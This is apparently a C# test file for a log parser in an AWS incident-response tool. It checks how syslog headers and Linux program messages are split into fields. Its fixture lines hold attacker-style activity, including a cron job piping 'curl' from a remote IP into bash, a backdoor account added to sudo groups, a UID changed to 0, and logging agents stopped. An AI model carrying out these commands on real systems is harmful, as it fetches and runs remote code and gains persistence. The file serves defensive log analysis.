namespace AwsIr.Tests.Records.Messages;

/// <summary>Headers by RFC 3164 and RFC 5424 and as rsyslog and journalctl write them, and what the programs of a host say.</summary>
public class SyslogMessageTests
{
    [Theory]
    [InlineData("Mar 17 09:00:00 web1 app[12]: hello", "{'host':'web1','program':'app','pid':12,'text':'hello'}")]
    [InlineData("Mar  7 09:00:00 web1 app: hello", "{'host':'web1','program':'app','text':'hello'}")]
    [InlineData("<34>Oct 11 22:14:15 mymachine su: 'x' y", "{\"facility\":4,\"severity\":2,\"host\":\"mymachine\",\"program\":\"su\",\"text\":\"'x' y\"}")]
    [InlineData("2026-03-17T09:00:00.123456+01:00 web1 app[12]: hello", "{'host':'web1','program':'app','pid':12,'text':'hello'}")]
    [InlineData("2026-03-17T09:00:00+0100 web1 postfix/smtpd[12]: hello: you", "{'host':'web1','program':'postfix/smtpd','pid':12,'text':'hello: you'}")]
    [InlineData("<165>1 2026-03-17T13:00:00.003Z web1 evntslog 12 ID47 [exampleSDID@32473 iut=\"3\" eventSource=\"A \\\"]\"] hello", "{\"facility\":20,\"severity\":5,\"host\":\"web1\",\"program\":\"evntslog\",\"pid\":12,\"messageId\":\"ID47\",\"structuredData\":\"[exampleSDID@32473 iut=\\\"3\\\" eventSource=\\\"A \\\\\\\"]\\\"]\",\"text\":\"hello\"}")]
    [InlineData("<34>1 2026-03-17T13:00:00.003Z web1 su - - - \ufeffhello", "{'facility':4,'severity':2,'host':'web1','program':'su','text':'hello'}")]
    [InlineData("sudo: www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c x", "{'program':'sudo','text':'www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c x','user':'www-data','outcome':'success','tty':'unknown','pwd':'/tmp','targetUser':'root','command':'/bin/sh -c x'}")]
    [InlineData("cloud-init[1200]: + curl https://example.com", "{'program':'cloud-init','pid':1200,'text':'+ curl https://example.com'}")]
    public void Headers_are_read(string message, string fields) => Parsed.Is(message, LogMessageKind.Syslog, fields);

    [Theory]
    [InlineData("note: hello")]
    [InlineData("2026-03-17T09:00:00Z INFO main: started")]
    [InlineData("2026-03-17T09:00:00Z [main] app: started")]
    [InlineData("Mar 17 09:00:00 web1")]
    [InlineData("Mar 17 09:00:00 nothing here")]
    [InlineData("Mar 32 09:00:00 web1 app[12]: hello")]
    [InlineData("<999>Mar 17 09:00:00 web1 app[12]: hello")]
    public void Other_text_stays_text(string message) => Parsed.Is(message, LogMessageKind.Text, "{}");

    [Theory]
    [InlineData("sudo[511]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/cat /etc/sudoers", "user=bob outcome=success tty=pts/0 pwd=/home/bob targetUser=root command=/bin/cat /etc/sudoers")]
    [InlineData("sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; GROUP=adm ; ENV=A=b ; COMMAND=/bin/ls ; USER=x", "user=bob outcome=success tty=pts/0 pwd=/home/bob targetUser=root targetGroup=adm env=A=b command=/bin/ls ; USER=x")]
    [InlineData("sudo[511]: www-data : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash", "user=www-data reason=user NOT in sudoers outcome=denied tty=pts/0 pwd=/home/bob targetUser=root command=/bin/bash")]
    [InlineData("sudo[511]: bob : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash", "user=bob reason=command not allowed outcome=denied tty=pts/0 pwd=/ targetUser=root command=/bin/bash")]
    [InlineData("sudo[511]: bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash", "user=bob reason=3 incorrect password attempts attempts=3 outcome=failure tty=pts/0 pwd=/ targetUser=root command=/bin/bash")]
    [InlineData("sudo[511]: bob : TTY=pts/0 ; PWD=/tmp/a ; b ; USER=root ; COMMAND=/bin/bash", "user=bob outcome=success tty=pts/0 pwd=/tmp/a ; b targetUser=root command=/bin/bash")]
    [InlineData("sudo[511]: bob : (command continued) and more", "user=bob command=and more")]
    [InlineData("sudo[511]: pam_unix(sudo:auth): authentication failure; logname=bob uid=1000 euid=0 tty=/dev/pts/0 ruser=bob rhost=  user=bob", "outcome=failure tty=/dev/pts/0 ruser=bob user=bob")]
    [InlineData("sudo[511]: pam_unix(sudo:session): session opened for user root(uid=0) by bob(uid=1000)", "action=session opened user=bob targetUser=root")]
    [InlineData("su[777]: (to root) bob on pts/0", "user=bob targetUser=root outcome=success tty=pts/0")]
    [InlineData("su[777]: FAILED SU (to root) bob on pts/0", "user=bob targetUser=root outcome=failure tty=pts/0")]
    [InlineData("su[777]: Successful su for root by bob", "user=bob targetUser=root outcome=success")]
    [InlineData("su[777]: FAILED su for root by bob", "user=bob targetUser=root outcome=failure")]
    [InlineData("useradd[777]: new user: name=support2, UID=1003, GID=1004, home=/home/support2, shell=/bin/bash, from=/dev/pts/0", "action=user created user=support2 uid=1003 gid=1004 home=/home/support2 shell=/bin/bash from=/dev/pts/0")]
    [InlineData("groupadd[777]: new group: name=ops, GID=1004", "action=group created group=ops gid=1004")]
    [InlineData("usermod[777]: add 'support2' to group 'wheel'", "user=support2 action=added to group group=wheel")]
    [InlineData("usermod[777]: add 'support2' to shadow group 'wheel'", "user=support2 action=added to group group=wheel")]
    [InlineData("usermod[777]: change user 'bob' UID from '1001' to '0'", "user=bob action=changed changed=UID from=1001 to=0 uid=0")]
    [InlineData("usermod[777]: change user 'bob' password", "user=bob action=password changed")]
    [InlineData("userdel[777]: delete user 'bob'", "user=bob action=user deleted")]
    [InlineData("userdel[777]: delete 'bob' from group 'wheel'", "user=bob action=removed from group group=wheel")]
    [InlineData("gpasswd[777]: user support2 added by root to group sudo", "user=support2 action=added to group group=sudo by=root")]
    [InlineData("gpasswd[777]: user support2 removed by root from group sudo", "user=support2 action=removed from group group=sudo by=root")]
    [InlineData("chpasswd[777]: pam_unix(chpasswd:chauthtok): password changed for root", "user=root action=password changed outcome=success")]
    [InlineData("passwd[777]: password for 'bob' changed by 'root'", "user=bob action=password changed by=root")]
    [InlineData("CRON[802]: (root) CMD (curl -fsSL http://203.0.113.45/x.sh | bash)", "user=root action=CMD command=curl -fsSL http://203.0.113.45/x.sh | bash")]
    [InlineData("crontab[801]: (bob) REPLACE (root)", "user=bob action=REPLACE targetUser=root")]
    [InlineData("/usr/sbin/cron[801]: (CRON) INFO (Running @reboot jobs)", "user=CRON action=INFO")]
    [InlineData("systemd[1]: Started amazon-ssm-agent.service - amazon-ssm-agent.", "unit=amazon-ssm-agent.service action=started")]
    [InlineData("systemd[1]: Stopped Amazon CloudWatch Agent.", "unit=Amazon CloudWatch Agent action=stopped")]
    [InlineData("systemd[1]: auditd.service: Failed with result 'exit-code'.", "unit=auditd.service action=failed")]
    [InlineData("kernel: [12.5] [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.9 DST=10.20.0.10 PROTO=TCP SPT=4711 DPT=22 SYN URGP=0", "IN=eth0 OUT= SRC=203.0.113.9 DST=10.20.0.10 PROTO=TCP SPT=4711 DPT=22 URGP=0 address=203.0.113.9")]
    [InlineData("audit[99]: USER_AUTH pid=99 uid=0 msg='op=PAM:authentication acct=\"root\" exe=\"/usr/sbin/sshd\" addr=203.0.113.9 terminal=ssh res=failed'", "uid=0 op=PAM:authentication acct=root exe=/usr/sbin/sshd addr=203.0.113.9 terminal=ssh res=failed user=root address=203.0.113.9 outcome=failure")]
    public void Programs_tell_what_they_did(string text, string fields)
    {
        var (kind, json) = Parsed.Of("Mar 17 09:00:00 ip-10-20-0-10 " + text);
        Assert.Equal(LogMessageKind.Syslog, kind);
        using var document = System.Text.Json.JsonDocument.Parse(json);
        var beside = document.RootElement.EnumerateObject().Where(field => field.Name is not ("host" or "program" or "pid" or "text"));
        Assert.Equal(fields, string.Join(" ", beside.Select(field => $"{field.Name}={field.Value}")));
    }

    /// <summary>Audit's example of a failed login, from the Linux audit documentation's field list.</summary>
    [Fact]
    public void Audit_records_stand_alone_too() => Parsed.Is(
        "type=USER_LOGIN msg=audit(1773738000.123:45): pid=99 uid=0 auid=4294967295 msg='op=login acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" addr=203.0.113.9 terminal=ssh res=failed'",
        LogMessageKind.KeyValue,
        "{'type':'USER_LOGIN','msg':'audit(1773738000.123:45):','pid':99,'uid':0,'auid':4294967295,'op':'login','acct':'28696E76616C6964207573657229','exe':'/usr/sbin/sshd','addr':'203.0.113.9','terminal':'ssh','res':'failed','user':'(invalid user)','address':'203.0.113.9','outcome':'failure'}");

    [Fact]
    public void Text_of_a_second_line_is_not_the_programs() => Parsed.Is(
        "Mar 17 09:00:00 h sshd[1]: Server listening\nFailed password for root from 203.0.113.9 port 1 ssh2",
        LogMessageKind.Syslog,
        "{\"host\":\"h\",\"program\":\"sshd\",\"pid\":1,\"text\":\"Server listening\\nFailed password for root from 203.0.113.9 port 1 ssh2\"}");
}
